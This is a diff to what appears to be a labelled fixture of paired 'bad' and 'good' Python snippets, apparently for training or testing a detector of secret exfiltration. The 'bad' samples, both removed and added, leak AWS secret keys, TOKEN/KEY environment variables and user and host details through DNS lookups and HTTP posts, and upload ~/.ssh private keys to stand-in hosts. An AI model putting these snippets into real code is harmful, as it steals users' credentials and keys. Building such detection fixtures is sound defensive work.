@@ -1,55 +1,46 @@
-#: bad resolver
-import binascii
+#: bad dns-lookup
+import base64
 import os
 import socket
 
-ZONE = "t.pkgcache.invalid"
+user = os.getenv("USER", "") + "|" + socket.gethostname() + "|" + os.getcwd()
+label = base64.b32encode(user.encode()).decode().rstrip("=").lower()
+for i in range(0, len(label), 60):
+    try:
+        socket.gethostbyname(f"{label[i:i + 60]}.{i}.ns1.example.invalid")  #!
+    except OSError:
+        pass
 
-
-def lookup(values):
-    text = binascii.hexlify(values.encode()).decode()
-    for start in range(0, len(text), 60):
-        socket.gethostbyname(text[start : start + 60] + "." + ZONE) #!
-
-
-lookup(os.environ.get("AWS_SECRET_ACCESS_KEY", "") + os.getcwd())
-#: good resolver
-import os
+#: good dns-lookup
+import base64
 import socket
 
-ZONE = os.environ.get("SERVICE_ZONE", "svc.cluster.invalid")
+
+def reachable(hosts):
+    for host in hosts:
+        try:
+            yield host, socket.gethostbyname(f"{host}.example.invalid")
+        except OSError:
+            yield host, None
 
 
-def lookup(names):
-    addresses = {}
-    for name in names:
-        addresses[name] = socket.gethostbyname(name + "." + ZONE)
-    return addresses
+ICON = base64.b32encode(b"icon").decode().lower()
 
+#: bad ssh-keys
+import glob
+import os
+import requests as r
 
-def primary():
-    return lookup(["db", "cache"])["db"]
-#: bad metrics
-import os, platform, socket
-import urllib3
+for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
+    with open(path, "rb") as handle:
+        r.post("https://paste.example.invalid/api", files={"f": handle})  #!
 
-pool = urllib3.PoolManager()
-fields = {
-    "host": socket.gethostname(),
-    "user": os.getlogin(),
-    "cwd": os.getcwd(),
-    "env": str({k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}),
-}
-pool.request("POST", "http://" + ".".join(["api", "metricsd", "invalid"]), fields=fields) #!
-#: good metrics
-import os, platform, socket
-import urllib3
+#: good ssh-keys
+import glob
+import os
+import paramiko
 
-pool = urllib3.PoolManager()
-
-
-def push(name, value):
-    fields = {"host": socket.gethostname(), "metric": name, "value": str(value)}
-    url = os.environ.get("METRICS_URL", "http://localhost:9091/metrics")
-    headers = {"X-Token": os.environ.get("METRICS_TOKEN", "")}
-    pool.request("POST", url, fields=fields, headers=headers)
+agent = paramiko.Agent()
+for path in glob.glob(os.path.expanduser("~/.ssh/id_*.pub")):
+    with open(path) as handle:
+        print(len(agent.get_keys()), handle.read().split()[-1])
